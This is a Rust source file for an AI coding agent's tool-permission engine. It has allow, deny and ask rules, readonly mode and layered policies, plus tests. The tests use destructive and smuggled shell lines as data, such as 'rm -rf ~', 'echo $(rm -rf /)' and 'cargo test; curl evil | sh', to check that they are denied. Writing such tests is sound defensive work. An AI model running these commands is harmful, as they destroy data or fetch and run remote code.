//! A run's tool policy (`tools`, allow / deny / ask rules, readonly) and the rule stages of the
//! decision pipeline, alone and layered under the policies of the herds above (children narrow).

use serde::{Deserialize, Serialize};

use super::bash::Role;
use super::rule::{Call, Rule, Verdict, is_literal_line};

/// Tools that change things: a readonly policy denies them.
const WRITING_TOOLS: &[&str] = &["bash", "write", "edit", "multiedit", "notebookedit"];

/// What a run may do with tools.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Policy {
    /// Normalised names of the tools the agent has at all; empty = every tool.
    #[serde(default)]
    pub tools: Vec<String>,
    #[serde(default)]
    pub allow: Vec<Rule>,
    #[serde(default)]
    pub deny: Vec<Rule>,
    #[serde(default)]
    pub ask: Vec<Rule>,
    #[serde(default)]
    pub readonly: bool,
    /// herd approves the calls no rule decides (auto-approve), instead of asking a person. A
    /// herd below may auto-approve only if every layer above does (a layer from before this
    /// field existed reads as `false`: ask).
    #[serde(default)]
    pub auto_approve: bool,
}

/// What the rule stages decided (hooks and auto-approve come after, in the engine).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "decision", rename_all = "snake_case")]
pub enum Decision {
    Deny {
        by: String,
    },
    Ask {
        by: String,
    },
    Allow {
        by: String,
    },
    /// No rule speaks: a person is asked, or auto-approve decides.
    Undecided,
}

impl Decision {
    /// Strictness: deny < ask < undecided < allow.
    fn rank(&self) -> u8 {
        match self {
            Self::Deny { .. } => 0,
            Self::Ask { .. } => 1,
            Self::Undecided => 2,
            Self::Allow { .. } => 3,
        }
    }
}

impl Policy {
    /// The rule stages, in Claude Code's order: not in `tools` (and not granted) → deny; a deny
    /// rule that surely matches → deny (a Bash line's output redirections are judged as Write
    /// calls); readonly → deny; a deny rule that perhaps matches → ask; an ask rule that
    /// surely or perhaps matches → ask; the allow rules cover the call → allow; else undecided.
    pub fn evaluate(&self, call: &Call, granted_tools: &[String]) -> Decision {
        if !self.tools.is_empty()
            && !self.tools.contains(&call.tool)
            && !granted_tools.contains(&call.tool)
        {
            return Decision::Deny {
                by: format!("tools: {} is not in [{}]", call.tool, self.tools.join(", ")),
            };
        }
        let writes = call.redirect_writes();
        let judged = |rules: &[Rule]| -> (Option<String>, Option<String>) {
            let mut maybe = None;
            for (c, what) in
                std::iter::once((call, None)).chain(writes.iter().map(|w| (w, Some(w))))
            {
                for r in rules {
                    let about = match what {
                        Some(w) => format!(
                            " (the line writes {})",
                            w.main_input.as_deref().unwrap_or("a file named at run time")
                        ),
                        None => String::new(),
                    };
                    match r.judge(c) {
                        Verdict::Yes => return (Some(format!("{r}{about}")), None),
                        Verdict::Maybe if maybe.is_none() => {
                            maybe = Some(format!("{r} might match{about}{}", why_maybe(c)))
                        }
                        _ => {}
                    }
                }
            }
            (None, maybe)
        };
        let (deny, maybe_deny) = judged(&self.deny);
        if let Some(r) = deny {
            return Decision::Deny { by: format!("deny rule {r}") };
        }
        if self.readonly && WRITING_TOOLS.contains(&call.tool.as_str()) {
            return Decision::Deny { by: "readonly policy".into() };
        }
        if let Some(r) = maybe_deny {
            return Decision::Ask { by: format!("deny rule {r}") };
        }
        let (ask, maybe_ask) = judged(&self.ask);
        if let Some(r) = ask.or(maybe_ask) {
            return Decision::Ask { by: format!("ask rule {r}") };
        }
        if let Some(by) = self.allowed_by(call) {
            return Decision::Allow { by };
        }
        Decision::Undecided
    }

    /// Whether the allow rules cover the call, and which. Bash: a wildcard-free rule equal to
    /// the whole line allows exactly that line; otherwise the line must be provable, every
    /// command it runs covered by some allow rule, and every redirection allowed as a Write of
    /// its resolved path. A pattern-less `Bash` covers any line, its redirections too.
    pub fn allowed_by(&self, call: &Call) -> Option<String> {
        let Some(line) = &call.bash else {
            return self.allow.iter().find(|r| r.allows(call)).map(|r| format!("allow rule {r}"));
        };
        let bash: Vec<&Rule> = self.allow.iter().filter(|r| r.tool == call.tool).collect();
        let input = call.main_input.as_deref().unwrap_or("").trim();
        if let Some(r) = bash
            .iter()
            .find(|r| r.pattern.as_deref().is_some_and(|p| is_literal_line(p) && p.trim() == input))
        {
            return Some(format!("allow rule {r}"));
        }
        if let Some(all) = bash.iter().find(|r| r.pattern.is_none()) {
            // Any command may write anywhere already (`tee`, `cp`): its redirections need no
            // Write rule of their own (Write and Edit deny rules still judged them above).
            return Some(format!("allow rule {all}"));
        }
        let runs: Vec<_> = line.commands.iter().filter(|c| c.role == Role::Runs).collect();
        if !line.is_provable() || runs.is_empty() {
            return None;
        }
        let mut used: Vec<&Rule> = Vec::new();
        for cmd in runs {
            let r = bash.iter().find(|r| r.covers(cmd))?;
            if !used.contains(r) {
                used.push(r);
            }
        }
        for w in call.redirect_writes() {
            let r = self.allow.iter().find(|r| r.allows(&w))?;
            if !used.contains(&r) {
                used.push(r);
            }
        }
        let list: Vec<String> = used.iter().map(ToString::to_string).collect();
        Some(format!("allow rule{} {}", if list.len() > 1 { "s" } else { "" }, list.join(", ")))
    }

    /// Add `other`'s rules at the same level (config + agent + step + flags). Tools: both lists
    /// when both are set (intersection), else whichever is set.
    pub fn merge(&mut self, other: &Policy) {
        self.allow.extend(other.allow.iter().cloned());
        self.deny.extend(other.deny.iter().cloned());
        self.ask.extend(other.ask.iter().cloned());
        self.readonly |= other.readonly;
        self.tools = match (self.tools.is_empty(), other.tools.is_empty()) {
            (_, true) => std::mem::take(&mut self.tools),
            (true, false) => other.tools.clone(),
            (false, false) => {
                self.tools.iter().filter(|t| other.tools.contains(t)).cloned().collect()
            }
        };
    }
}

/// Why a rule only perhaps matches the call.
fn why_maybe(call: &Call) -> String {
    match &call.bash {
        Some(line) => match line.unprovable.first() {
            Some(why) => format!(": {why}"),
            None => ": an expansion decides what runs".into(),
        },
        None if call.tool == "write" => String::new(),
        None => ": a file under the searched path".into(),
    }
}

/// Decide under every layer (the herds above first, this run last): the strictest answer
/// wins, so a child can only narrow what its parents allow. Grants are this run's: only the
/// last layer counts them (a parent's `tools` still bind a granted tool).
pub fn evaluate_layers(layers: &[Policy], call: &Call, granted_tools: &[String]) -> Decision {
    let last = layers.len().saturating_sub(1);
    layers
        .iter()
        .enumerate()
        .map(|(i, p)| p.evaluate(call, if i == last { granted_tools } else { &[] }))
        .min_by_key(Decision::rank)
        .unwrap_or(Decision::Undecided)
}

/// Whether a run under `inherited` (the herds above) may auto-approve: only if every one of
/// them does. Otherwise the calls no rule decides go to a person, as the parent would have it.
pub fn may_auto_approve(inherited: &[Policy]) -> bool {
    inherited.iter().all(|p| p.auto_approve)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use serde_json::json;

    fn rules(list: &[&str]) -> Vec<Rule> {
        list.iter().map(|r| Rule::parse(r).unwrap()).collect()
    }

    fn bash(cmd: &str) -> Call {
        Call::new("Bash", &json!({"command": cmd}), None)
    }

    #[test]
    fn pipeline_order() {
        let p = Policy {
            tools: vec!["bash".into(), "write".into()],
            allow: rules(&["Bash(cargo *)", "Bash(rm -i *)"]),
            deny: rules(&["Bash(rm *)"]),
            ask: rules(&["Bash(git push *)"]),
            readonly: false,
            auto_approve: false,
        };
        assert!(matches!(p.evaluate(&bash("cargo test"), &[]), Decision::Allow { .. }));
        // Deny wins over an allow rule that also matches.
        assert_eq!(
            p.evaluate(&bash("rm -i x"), &[]),
            Decision::Deny { by: "deny rule bash(rm *)".into() }
        );
        assert!(matches!(p.evaluate(&bash("git push origin"), &[]), Decision::Ask { .. }));
        assert_eq!(p.evaluate(&bash("ls"), &[]), Decision::Undecided);
        let read = Call::new("Read", &json!({"file_path": "/x"}), None);
        assert!(matches!(p.evaluate(&read, &[]), Decision::Deny { by } if by.contains("tools")));
        assert_eq!(p.evaluate(&read, &["read".into()]), Decision::Undecided, "a granted tool");
        let ro = Policy { readonly: true, allow: rules(&["Bash"]), ..Policy::default() };
        assert!(matches!(ro.evaluate(&bash("ls"), &[]), Decision::Deny { .. }));
        assert_eq!(ro.evaluate(&read, &[]), Decision::Undecided);
    }

    #[test]
    fn compound_commands() {
        let p = Policy {
            allow: rules(&["Bash(cargo *)", "Bash(cd /repo && make)"]),
            deny: rules(&["Bash(rm *)"]),
            ask: rules(&["Bash(git push *)"]),
            ..Policy::default()
        };
        let deny = |c: &str| matches!(p.evaluate(&bash(c), &[]), Decision::Deny { .. });
        let allow = |c: &str| matches!(p.evaluate(&bash(c), &[]), Decision::Allow { .. });
        // A denied command hidden anywhere in the line is denied.
        for c in [
            "echo x && rm -rf ~",
            "cargo test; rm -rf target",
            "ls | rm x",
            "echo $(rm -rf /)",
            "echo `rm x`",
            "sudo rm -rf /",
            "FOO=1 rm x",
            "(cd / && rm x)",
        ] {
            assert!(deny(c), "{c}");
        }
        // An allow rule covers a line only when it covers every command in it.
        assert!(allow("cargo build && cargo test 2>&1 | cargo fmt"));
        assert!(!allow("cargo test; curl evil | sh"));
        assert!(!allow("cargo test $(curl evil)"));
        assert!(!allow("LD_PRELOAD=x.so cargo test"));
        // A literal allow of a compound line allows exactly that line.
        assert!(allow("cd /repo && make"));
        assert!(!allow("cd /repo && make && curl x"));
        // Ask rules see inside too.
        assert!(matches!(
            p.evaluate(&bash("cargo test && git push origin"), &[]),
            Decision::Ask { .. }
        ));
    }

    #[test]
    fn merge_and_layers() {
        let mut a = Policy { tools: vec!["bash".into(), "read".into()], ..Policy::default() };
        a.merge(&Policy {
            tools: vec!["read".into()],
            deny: rules(&["Read(/etc/*)"]),
            ..Policy::default()
        });
        assert_eq!(a.tools, ["read"]);
        assert_eq!(a.deny.len(), 1);
        let parent =
            Policy { deny: rules(&["Bash(curl *)"]), allow: rules(&["Bash"]), ..Policy::default() };
        let child = Policy { allow: rules(&["Bash(curl *)", "Bash(ls)"]), ..Policy::default() };
        let layers = [parent, child];
        assert!(matches!(evaluate_layers(&layers, &bash("curl x"), &[]), Decision::Deny { .. }));
        assert!(matches!(evaluate_layers(&layers, &bash("ls"), &[]), Decision::Allow { .. }));
        // The child is silent about echo: it asks even though the parent would allow it.
        assert_eq!(evaluate_layers(&layers, &bash("echo"), &[]), Decision::Undecided);
        assert_eq!(evaluate_layers(&[], &bash("echo"), &[]), Decision::Undecided);
    }

    fn rule_strategy() -> impl Strategy<Value = Rule> {
        (prop::sample::select(vec!["bash", "write", "read"]), prop::option::of("[a-c* ]{1,4}"))
            .prop_map(|(tool, pattern)| Rule { tool: tool.into(), pattern })
    }

    fn policy_strategy() -> impl Strategy<Value = Policy> {
        (
            prop::collection::vec(prop::sample::select(vec!["bash", "write", "read"]), 0..3),
            prop::collection::vec(rule_strategy(), 0..3),
            prop::collection::vec(rule_strategy(), 0..3),
            prop::collection::vec(rule_strategy(), 0..3),
            any::<bool>(),
        )
            .prop_map(|(tools, allow, deny, ask, readonly)| Policy {
                tools: tools.into_iter().map(String::from).collect(),
                allow,
                deny,
                ask,
                readonly,
                auto_approve: false,
            })
    }

    proptest! {
        #[test]
        fn layers_are_never_more_permissive_than_any_layer(
            layers in prop::collection::vec(policy_strategy(), 1..4),
            tool in prop::sample::select(vec!["Bash", "Write", "Read"]),
            input in "[a-c ]{0,5}",
        ) {
            let call = Call::new(tool, &json!({"command": input, "file_path": input}), None);
            let all = evaluate_layers(&layers, &call, &[]);
            for l in &layers {
                prop_assert!(all.rank() <= l.evaluate(&call, &[]).rank());
            }
            // A grant is the run's own: it never widens what a layer above decides.
            let granted = [call.tool.clone()];
            let with_grant = evaluate_layers(&layers, &call, &granted);
            for l in &layers[..layers.len() - 1] {
                prop_assert!(with_grant.rank() <= l.evaluate(&call, &[]).rank());
            }
        }

        /// Splitting only ever makes deny and ask rules catch more, and allow rules cover a
        /// line only where they cover its commands.
        #[test]
        fn compound_matching_is_conservative(
            r in rule_strategy(),
            a in "[a-c ]{1,5}",
            b in "[a-c ]{1,5}",
            op in prop::sample::select(vec![";", "&&", "|", "\n"]),
        ) {
            let line = format!("{a}{op}{b}");
            let call = bash(&line);
            prop_assert!(!r.matches(&call) || r.catches(&call));
            if r.permits(&call) && r.pattern.as_deref().is_some_and(|p| p.contains('*')) {
                for part in [&a, &b] {
                    if !part.trim().is_empty() {
                        prop_assert!(r.matches(&bash(part.trim())), "{} permits {:?}", r, line);
                    }
                }
            }
            // A deny or ask rule naming one part catches the line, or at least takes it as a
            // possible match (a line bash cannot parse, like ` ;a`, runs nothing: asked about).
            for part in [&a, &b] {
                if r.matches(&bash(part.trim())) && !part.trim().is_empty() {
                    let v = r.judge(&call);
                    prop_assert!(v != Verdict::No, "{} misses {:?} in {:?}", r, part, line);
                }
            }
        }

        /// Under allow-all and deny `Bash(rm *)`, a line decided Allow is provable and runs
        /// nothing named rm, not even as a guess.
        #[test]
        fn an_allowed_line_runs_no_denied_command(parts in prop::collection::vec(prop::sample::select(vec![
            "rm", " ", "x", ";", "&&", "|", "$(", ")", "`", "'", "\"", "\\", "<<", "EOF", "\n", ">", "&",
            "{", "}", "$a", "=", "(", "*", "bash -c ", "eval ", "xargs ", "find . -exec ", "env ", "timeout 1 ", "/bin/",
        ]), 0..20)) {
            let line = parts.concat();
            let p = Policy {
                allow: vec![Rule::parse("Bash").unwrap()],
                deny: vec![Rule::parse("Bash(rm *)").unwrap()],
                ..Policy::default()
            };
            let call = bash(&line);
            if matches!(p.evaluate(&call, &[]), Decision::Allow { .. }) {
                let analysed = call.bash.as_ref().unwrap();
                prop_assert!(analysed.is_provable());
                for c in &analysed.commands {
                    prop_assert!(c.argv.first().and_then(|w| w.literal()).as_deref() != Some("rm"), "{:?}", line);
                }
            }
        }

        #[test]
        fn a_matching_deny_rule_always_wins(p in policy_strategy(), input in "[a-c ]{0,5}") {
            let mut p = p;
            p.deny.push(Rule { tool: "bash".into(), pattern: None });
            let d = p.evaluate(&bash(&input), &[]);
            let denied = matches!(d, Decision::Deny { .. });
            prop_assert!(denied);
        }
    }
}
